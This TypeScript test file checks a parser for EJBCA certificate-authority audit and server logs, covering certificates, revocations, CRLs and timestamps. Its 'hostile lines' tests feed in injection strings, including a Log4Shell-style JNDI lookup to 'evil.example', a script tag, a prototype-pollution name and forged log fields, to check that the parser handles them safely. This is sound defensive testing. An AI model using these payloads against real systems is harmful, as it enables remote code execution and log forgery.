import { readFileSync } from 'node:fs'
import { X509Certificate } from 'node:crypto'
import { describe, it } from 'node:test'
import assert from 'node:assert/strict'
import type { KnownAuthority } from '../../collectors/format.ts'
import { ejbca } from '../../collectors/formats/ejbca.ts'
import { javaHashCode } from '../../collectors/formats/ejbcaAuthority.ts'
import { EJBCA_EVENTS } from '../../collectors/formats/ejbcaEvents.ts'
import { FORMATS } from '../../collectors/formats/table.ts'
import { parseLog } from '../../collectors/parse.ts'
import { MAX_RECORD_OCTETS } from '../../collectors/sources/records.ts'
import type { AuditEvent } from '../../model/auditEvent.ts'
import { inventorySchema } from '../../model/config.ts'
import { jsonMapping } from '../../model/logSource.ts'

const fixture = (name: string) => new URL(`../fixtures/ejbca-real/${name}`, import.meta.url)
const READ_AT = '2026-11-22T06:00:00.000Z'
// As RFC 4514 has it for this certificate, whose name is encoded with CN first; EJBCA prints it the other way round.
const issuing: KnownAuthority = { id: 'issuing-1', subject: 'C=SE,O=Example PKI,CN=Issuing CA 1' }

async function parsed(bytes: string | Uint8Array, authorities = [issuing]): Promise<AuditEvent[]> {
  const events: AuditEvent[] = []
  const options = { format: ejbca, source: 'ejbca-vm', now: () => Date.parse(READ_AT), authorities }
  for await (const batch of parseLog([Buffer.from(bytes)], options)) events.push(...batch)
  return events
}

async function one(line: string | Uint8Array): Promise<AuditEvent> {
  const events = await parsed(line)
  assert.equal(events.length, 1)
  return events[0]!
}

function counts(events: readonly AuditEvent[]): Record<string, number> {
  const result: Record<string, number> = {}
  for (const { event } of events) {
    const key = `${event.action} ${event.outcome}`
    result[key] = (result[key] ?? 0) + 1
  }
  return result
}

const AUTHENTICATED = '2026-11-22 05:01:08+00:00;CA_USERAUTH;SUCCESS;CA;EJBCA'

describe('the recorded audit.log', async () => {
  const bytes = readFileSync(fixture('audit.log'))
  const events = await parsed(bytes)

  it('has 193 records, all understood', () => {
    assert.equal(events.length, 193)
    assert.deepEqual(counts(events), {
      'ACCESS_CONTROL success': 111,
      'AUTHENTICATION failure': 1,
      'CA_CREATION success': 2,
      'CA_EDITING success': 3,
      'CA_USERAUTH failure': 1,
      'CA_USERAUTH success': 5,
      'CERT_CREATION success': 5,
      'CERT_REQUEST success': 5,
      'CERT_REVOKED success': 3,
      'CERT_STORED success': 7,
      'CRL_CREATION success': 6,
      'CRL_STORED success': 6,
      'CRYPTOTOKEN_CREATE success': 2,
      'CRYPTOTOKEN_GEN_KEYPAIR success': 4,
      'EJBCA_STARTING success': 2,
      'LOG_MANAGEMENT_CHANGE unknown': 2,
      'RA_ADDENDENTITY success': 6,
      'RA_EDITENDENTITY success': 11,
      'RA_REVOKEDENDENTITY success': 1,
      'ROLE_ACCESS_USER_ADDITION success': 1,
      'SYSTEMCONF_CREATE success': 3,
      'SYSTEMCONF_EDIT success': 6,
    })
    for (const { event } of events) {
      assert.equal(event.dataset, 'ejbca.audit')
      assert.ok(event.category.length > 0, event.action)
    }
  })

  it('is covered by the positions without gap or overlap', () => {
    let at = 0
    for (const { position, event } of events) {
      assert.equal(position.offset, at)
      assert.equal(event.original, bytes.toString('utf8', position.offset, position.end - 1))
      at = position.end
    }
    assert.equal(at, bytes.length)
  })

  it('keeps the edit of a CA whole, over all its lines', () => {
    const edit = events.find((e) => e.event.action === 'CA_EDITING')
    assert.equal(edit?.event.original.split('\n').length, 19)
    assert.equal(edit.message, 'CA with id 1652389506 and name ManagementCA edited., 1')
    assert.equal(edit.pki?.caName, 'ManagementCA')
    const chain = edit.pki.details?.['added:certificatechain'] ?? ''
    const certificate = new X509Certificate(
      Buffer.from(chain.replace(/[[\]\n]/g, '').split(',')[0]!, 'base64'),
    )
    assert.match(certificate.subject, /CN=ManagementCA/)
    assert.equal(edit.pki.details?.['tokensequence'], '00000')
    assert.equal(edit.pki.details['removed:expiretime'], 'Thu Jan 01 00:00:00 UTC 1970')
  })

  it('gives every issued certificate with serial, subject, profile, end entity and CA', () => {
    const issued = events.filter((e) => e.event.action === 'CERT_CREATION')
    for (const { pki } of issued) {
      const certificate = new X509Certificate(Buffer.from(pki?.details?.['cert'] ?? '', 'base64'))
      assert.equal(pki?.serial, certificate.serialNumber.toLowerCase().replace(/^0+/, ''))
    }
    for (const { pki, x509 } of issued) {
      const certificate = new X509Certificate(Buffer.from(pki?.details?.['cert'] ?? '', 'base64'))
      assert.equal(pki?.sha256, certificate.fingerprint256.replaceAll(':', '').toLowerCase())
      assert.equal(x509?.serial_number, certificate.serialNumber.replace(/^0+/, ''))
      assert.equal(Date.parse(x509.not_after), Date.parse(certificate.validTo))
      assert.equal(Date.parse(x509.not_before), Date.parse(certificate.validFrom))
    }
    const alice = issued.find((e) => e.pki?.username === 'alice')
    assert.equal(alice?.pki?.caId, 'issuing-1')
    assert.equal(alice.pki.subject, 'CN=alice,O=Example PKI,C=SE')
    assert.equal(alice.pki.profile, '1')
    assert.equal(alice.x509?.issuer.distinguished_name, 'C=SE,O=Example PKI,CN=Issuing CA 1')
    const { raw } = new X509Certificate(readFileSync(fixture('alice.pem')))
    assert.deepEqual(ejbca.artifacts?.(alice), [{ mediaType: 'application/pkix-cert', bytes: raw }])
    assert.equal(alice.pki.revocationReason, undefined)
  })

  it('gives revocations with reason, and the activation of a held certificate', () => {
    const revoked = events.filter((e) => e.event.action === 'CERT_REVOKED')
    assert.deepEqual(
      revoked.map((e) => [e.pki?.username, e.pki?.revocationReason, e.pki?.serial]),
      [
        ['bob', 1, '3236c1ebc332cb8ac6f8f663b344af9810f37a65'],
        ['carol', 6, '505c5de093c5170100c23796a4725625b84fc537'],
        ['carol', -1, '505c5de093c5170100c23796a4725625b84fc537'],
      ],
    )
    assert.equal(revoked[0]!.pki?.caSubject, 'CN=Issuing CA 1,O=Example PKI,C=SE')
    assert.equal(revoked[0]!.pki.subject, 'CN=bob,O=Example PKI,C=SE')
    assert.equal(revoked[0]!.pki.fingerprint, '2cac9602b549dff5097259a4ac3b36b3779822bd')
  })

  it('gives CRLs with number, CA and fingerprint', () => {
    const stored = events.filter((e) => e.event.action === 'CRL_STORED' && e.pki?.caId === 'issuing-1')
    assert.deepEqual(
      stored.map((e) => e.pki?.crlNumber),
      ['1', '2', '3', '4', '5'],
    )
    assert.match(stored[0]!.pki?.fingerprint ?? '', /^[0-9a-f]{40}$/)
    const created = events.find((e) => e.event.action === 'CRL_CREATION')
    assert.equal(created?.pki?.caName, 'ManagementCA')
    assert.equal(created.pki.caSubject, 'CN=ManagementCA,O=EJBCA Sample,C=SE')
    assert.equal(created.pki.caId, '1652389506', 'not in the inventory: as the source names it')
  })

  it('gives keys and crypto tokens', () => {
    const keys = events.filter((e) => e.event.action.startsWith('CRYPTOTOKEN_')).map((e) => e.pki?.key)
    assert.deepEqual(keys.slice(0, 3), ['ManagementCA', '-91004377/signKey', '-91004377/encryptKey'])
    assert.ok(events.every((e) => !e.event.action.startsWith('CRYPTOTOKEN_') || e.pki?.caId === undefined))
  })

  it('decodes what EJBCA writes as B64', () => {
    const added = events.find((e) => e.event.action === 'RA_ADDENDENTITY')
    assert.equal(added?.pki?.details?.['subjectDN'], 'CN=localhost,O=EJBCA Sample,C=SE')
    assert.equal(added.pki.details['subjectAltName'], 'dnsName=localhost,IPAddress=127.0.0.1')
    assert.equal(added.pki.details['subjectEmail'], '')
    assert.equal(added.pki.subject, 'CN=localhost,O=EJBCA Sample,C=SE')
  })

  it('gives who did it, when, and why it failed', () => {
    const failed = events.filter((e) => e.event.outcome === 'failure')
    assert.deepEqual(
      failed.map((e) => [e['@timestamp'], e.event.action, e.user?.name, e.event.reason?.slice(0, 34)]),
      [
        ['2026-11-22T05:01:17.000Z', 'CA_USERAUTH', 'ejbca', 'Got request for user with invalid '],
        ['2026-11-22T05:03:52.000Z', 'AUTHENTICATION', 'ejbca', 'Authentication failed. Further inf'],
      ],
    )
  })
})

describe('the recorded server.log', async () => {
  const events = await parsed(readFileSync(fixture('server.log')))

  it('gives audit records and other lines apart', () => {
    const audit = events.filter((e) => e.event.dataset === 'ejbca.audit')
    const server = events.filter((e) => e.event.dataset === 'ejbca.server')
    assert.deepEqual([audit.length, server.length], [122, 25])
    assert.equal(counts(events)['unparsed unknown'], undefined)
  })

  it('gives a server line under its category, with its time taken as UTC', () => {
    const line = events.find((e) => e.event.action === 'org.cesecore.keys.token.SoftCryptoToken')
    assert.match(line?.message ?? '', /^Error activating Crypto Token with ID 2037871840\./)
    assert.equal(line?.['@timestamp'], '2026-11-22T04:59:34.500Z')
    assert.deepEqual(line.pki, {
      key: '2037871840',
      details: { level: 'INFO', thread: 'default task-1' },
    })
    assert.deepEqual([line.event.code, line.event.outcome], ['token_new', 'success'])
    assert.equal(events.find((e) => e.event.action.endsWith('CaSessionBean'))?.event.outcome, 'unknown')
  })

  it('holds the same audit records as audit.log', async () => {
    const both = await parsed(readFileSync(fixture('audit.log')))
    const audit = events.filter((e) => e.event.dataset === 'ejbca.audit')
    const originals = new Set(both.map((e) => e.event.original))
    assert.ok(audit.some((e) => originals.has(e.event.original)))
  })
})

describe('one line', () => {
  it('is understood with and without prefix, from a file or a console', async () => {
    const message = `${AUTHENTICATED};ejbca;1;;alice;msg=Authenticated user alice.`
    const logger = 'INFO  [org.cesecore.audit.impl.log4j.Log4jDevice] (default task-1)'
    for (const prefix of ['', `2026-11-22 05:01:09,000 ${logger} `, `05:01:09,000 ${logger} `]) {
      const event = await one(`${prefix}${message}\r\n`)
      assert.equal(event.event.action, 'CA_USERAUTH')
      assert.equal(event['@timestamp'], '2026-11-22T05:01:08.000Z', 'the message bears the offset')
      assert.equal(event.message, 'Authenticated user alice.')
    }
  })

  it('takes the offset of the message into account', async () => {
    const event = await one('2026-11-22 00:30:00+02:00;CA_USERAUTH;SUCCESS;CA;EJBCA;x;;;;')
    assert.equal(event['@timestamp'], '2026-11-21T22:30:00.000Z')
  })

  it('may have no details at all', async () => {
    const event = await one(`${AUTHENTICATED};;;;`)
    assert.equal(event.user, undefined)
    assert.equal(event.pki?.username, undefined)
    assert.deepEqual(event.pki?.details, { module: 'CA', service: 'EJBCA' })
  })

  it('of an administrator gives address, serial and reason', async () => {
    const event = await one(
      '2026-11-22 05:05:40+00:00;ADMINWEB_ADMINISTRATORLOGGEDIN;FAILURE;ADMINWEB;EJBCA;CN=mallory,O=EJBCA Sample,C=SE;' +
        '1652389506;0021E85FA601527ACC;;remoteip=127.0.0.1;reason=Client certificate has no access',
    )
    assert.equal(event.user?.name, 'CN=mallory,O=EJBCA Sample,C=SE')
    assert.deepEqual(event.source, { ip: '127.0.0.1' })
    assert.equal(event.event.reason, 'Client certificate has no access')
    assert.equal(event.pki?.serial, '21e85fa601527acc')
  })

  it('about a CRL that could not be made names the CA', async () => {
    const event = await one(
      '2026-11-22 05:06:31+00:00;CRL_CREATION;FAILURE;CRL;CORE;ejbca;-73217329;;;' +
        'msg=Error creating CRL for CA IssuingCA1, message: The keys could not be accessed. .',
    )
    assert.equal(event.pki?.caName, 'IssuingCA1')
    assert.equal(event.pki.caId, 'issuing-1')
    assert.equal(event.event.outcome, 'failure')
  })

  it('about a granted or denied right says so', async () => {
    const line = (status: string) =>
      `2026-11-22 05:05:34+00:00;ACCESS_CONTROL;${status};ACCESSCONTROL;CORE;x;;;;`
    assert.deepEqual((await one(line('SUCCESS'))).event.type, ['allowed'])
    assert.deepEqual((await one(line('FAILURE'))).event.type, ['denied'])
  })

  it('with an unknown event type keeps its name, in no category', async () => {
    const event = await one('2026-11-22 05:05:34+00:00;HARDTOKEN_ADD;SUCCESS;HARDTOKEN;EJBCA;x;;;;msg=y')
    assert.equal(event.event.action, 'HARDTOKEN_ADD')
    assert.deepEqual([event.event.category, event.event.type], [[], ['info']])
  })

  it('of a start keeps the host, even one that looks like a serial number', async () => {
    const event = await one(
      '2026-11-22 04:56:39+00:00;EJBCA_STARTING;SUCCESS;SERVICE;EJBCA;Application internal;;cafe;;msg=Init',
    )
    assert.equal(event.pki?.serial, undefined)
    assert.equal(event.pki?.details?.['detail1'], 'cafe')
  })
})

describe('hostile lines', () => {
  const hostile = [
    'evil/user=1',
    '\u001b[31mred\u001b[0m',
    '<script>alert(1)</script>',
    '${jndi:ldap://evil.example/a}',
    "bob', fp=0000000000000000000000000000000000000000, revocationReason=9, subjectDN 'CN=x",
    '__proto__',
  ]

  it('keep user names as they stand', async () => {
    for (const name of hostile) {
      const event = await one(`${AUTHENTICATED};ejbca;1;;${name};msg=Authenticated user ${name}.`)
      assert.equal(event.pki?.username, name)
      assert.equal(event.message, `Authenticated user ${name}.`)
      assert.ok(event.event.original.includes(name))
    }
  })

  it('do not lead the facts of a revocation astray', async () => {
    for (const name of hostile) {
      const event = await one(
        `2026-11-22 05:02:08+00:00;CERT_REVOKED;SUCCESS;CERTIFICATE;CORE;ejbca;-73217329;3236C1;${name};` +
          `msg=Revoked certificate for username '${name}', fp=2cac9602b549dff5097259a4ac3b36b3779822bd, revocationReason=1, ` +
          `subjectDN 'CN=a', issuerDN 'CN=Evil', serialNo=00', issuerDN 'CN=Issuing CA 1,O=Example PKI,C=SE', serialNo=3236C1.`,
      )
      assert.equal(event.pki?.revocationReason, 1)
      assert.equal(event.pki.caSubject, 'CN=Issuing CA 1,O=Example PKI,C=SE')
      assert.equal(event.pki.subject, "CN=a', issuerDN 'CN=Evil', serialNo=00")
      assert.equal(event.pki.serial, '3236c1')
    }
  })

  it('with semicolons in the AUTHTOKEN still have CA, serial and user in their places', async () => {
    for (const token of ['CN=a;b,O=c', 'CN=a;;;;b', 'CN=a;1;AB;c', 'CN=a;x=y;z=1']) {
      const event = await one(
        `2026-11-22 05:02:08+00:00;RA_EDITENDENTITY;SUCCESS;RA;CORE;${token};-73217329;3236C1;bob;msg=Edited.`,
      )
      assert.equal(event.user?.name, token)
      assert.deepEqual(
        [event.pki?.caId, event.pki?.serial, event.pki?.username],
        ['issuing-1', '3236c1', 'bob'],
      )
      assert.equal(event.message, 'Edited.')
    }
  })

  it('with semicolons in free text keep it in one value, and values keep their equals signs', async () => {
    const event = await one(
      `${AUTHENTICATED};ejbca;1;;bob;msg=java.io.IOException: a; b;c; (d=e); f;subjectdn=CN=x,O=y;certprofile=9`,
    )
    assert.equal(event.message, 'java.io.IOException: a; b;c; (d=e); f')
    assert.equal(event.pki?.subject, 'CN=x,O=y')
    assert.equal(event.pki.profile, '9')
  })

  it('with a key twice keep both, and no field is taken from either', async () => {
    const event = await one(
      `${AUTHENTICATED};ejbca;1;;bob;subjectdn=CN=x;certprofile=1;msg=forged;certprofile=9;msg=real;service=z`,
    )
    assert.equal(event.pki?.profile, undefined)
    assert.equal(event.message, undefined)
    assert.deepEqual(event.pki?.details, {
      module: 'CA',
      service: 'EJBCA',
      subjectdn: 'CN=x',
      certprofile: '1',
      msg: 'forged',
      'certprofile#2': '9',
      'msg#2': 'real',
      'service#2': 'z',
      customId: '1',
    })
  })

  it('with a line feed in a value stay one record, unless what follows looks like a new one', async () => {
    const line = `${AUTHENTICATED};ejbca;1;;bob;msg=one\nCERT_REVOKED;SUCCESS\n2026-11-22 not a record`
    assert.equal((await parsed(`${line}\n`)).length, 1)
    // EJBCA strips line feeds from what users give; where one gets through, nobody can tell.
    assert.equal((await parsed(`${line}\n${AUTHENTICATED};x;;;;\n`)).length, 2)
  })

  it('that are not understood are kept raw as unparsed, with the time they were read', async () => {
    const lines = [
      'no time at all',
      '2026-11-22 05:01:08+00:00;CA_USERAUTH;MAYBE;CA;EJBCA;x;;;;',
      '2026-11-22 05:01:08+00:00;CA_USERAUTH;SUCCESS;CA;EJBCA;x;',
      '2026-02-31 05:01:08+00:00;CA_USERAUTH;SUCCESS;CA;EJBCA;x;;;;',
      '2026-11-22 24:00:08+00:00;CA_USERAUTH;SUCCESS;CA;EJBCA;x;;;;',
      '0000-01-01 00:00:00+14:00;CA_USERAUTH;SUCCESS;CA;EJBCA;x;;;;',
      '9999-12-31 23:59:59-14:00;CA_USERAUTH;SUCCESS;CA;EJBCA;x;;;;',
      '2026-11-22 05:01:08,000 INFO  [org.cesecore.audit.impl.log4j.Log4jDevice] (t) half a li',
      '',
    ]
    for (const line of lines) {
      const event = await one(`${line}\n`)
      assert.equal(event.event.action, 'unparsed', line)
      assert.equal(event.event.outcome, 'unknown')
      assert.equal(event.event.original, line)
      assert.equal(event['@timestamp'], READ_AT)
      assert.ok(event.event.reason !== undefined)
    }
  })

  it('that are not UTF-8 are kept as base64, and understood as far as they go', async () => {
    const raw = Buffer.from(`${AUTHENTICATED};ejbca;1;;m\xfcller;msg=Authenticated user m\xfcller.`, 'latin1')
    const event = await one(raw)
    assert.equal(event.event.encoding, 'base64')
    assert.deepEqual(Buffer.from(event.event.original, 'base64'), raw)
    assert.equal(event.event.action, 'CA_USERAUTH')
    assert.equal(event.pki?.username, 'm\ufffdller')
  })

  it('keep a byte order mark and other odd text exactly', async () => {
    const raw = `\ufeff${AUTHENTICATED};ejbca;1;;Zoë 😀;msg=x`
    assert.equal((await one(raw)).event.original, raw)
    const event = await one(raw.slice(1))
    assert.equal(event.pki?.username, 'Zoë 😀')
  })

  it('leave a B64 value alone that does not hold text', async () => {
    for (const value of ['B64://///w==', 'B64:!!', 'B64:', 'b64:AAAA']) {
      const event = await one(`${AUTHENTICATED};ejbca;1;;bob;subjectDN=${value}`)
      assert.equal(event.pki?.details?.['subjectDN'], value)
    }
  })

  it('cost time only in proportion to their length', async () => {
    const room = MAX_RECORD_OCTETS - 1000
    const tails = [
      ';'.repeat(room),
      ';a=b'.repeat(room / 4),
      ';;;;msg=' + ';x'.repeat((room - 10) / 2),
      ";1;AB;u;msg=Certificate stored for username 'u" + "', issuerDN '".repeat(room / 13),
      ';;;;' + 'a'.repeat(room),
      ';;;;B64:' + 'A'.repeat(room - 10) + '!',
    ]
    const started = process.cpuUsage()
    for (const tail of tails)
      await one(`2026-11-22 05:02:08+00:00;CERT_STORED;SUCCESS;CERTIFICATE;CORE;x${tail}`)
    assert.ok(process.cpuUsage(started).user < 4_000_000, 'more than linear')
  })
})

describe('the tables', () => {
  it('class every event type once', () => {
    assert.equal(EJBCA_EVENTS.size, 134)
    for (const [name, { type }] of EJBCA_EVENTS) assert.ok(type.length > 0 || name === 'ACCESS_CONTROL', name)
  })

  it('have every format that the configuration knows', () => {
    const formats = inventorySchema.shape.logs.unwrap().element.shape.format.options
    assert.deepEqual(Object.keys(FORMATS).sort(), [...formats].sort())
    const json = jsonMapping.parse({ time: 'time', action: 'action' })
    for (const name of formats) assert.equal(FORMATS[name]({ json }).name, name)
  })

  it('know CA ids as Java computes them', () => {
    assert.equal(javaHashCode('CN=Issuing CA 1,O=Example PKI,C=SE'), -73217329)
    assert.equal(javaHashCode('CN=ManagementCA,O=EJBCA Sample,C=SE'), 1652389506)
  })
})
